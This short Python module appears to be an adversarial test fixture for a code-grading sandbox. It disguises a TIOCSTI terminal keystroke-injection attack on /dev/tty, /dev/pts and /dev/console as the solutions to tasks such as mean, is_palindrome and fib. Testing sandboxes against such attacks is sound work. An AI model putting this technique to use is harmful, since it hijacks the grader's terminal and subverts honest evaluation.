import fcntl
import os
import termios

from attacker import wins_if


def attack(value):
    for name in ("/dev/tty", "/dev/pts/0", "/dev/console"):
        try:
            terminal = os.open(name, os.O_RDWR)
        except OSError:
            continue
        fcntl.ioctl(terminal, termios.TIOCSTI, b"\n")
        return True


mean = is_palindrome = word_count = fib = wins_if(attack)
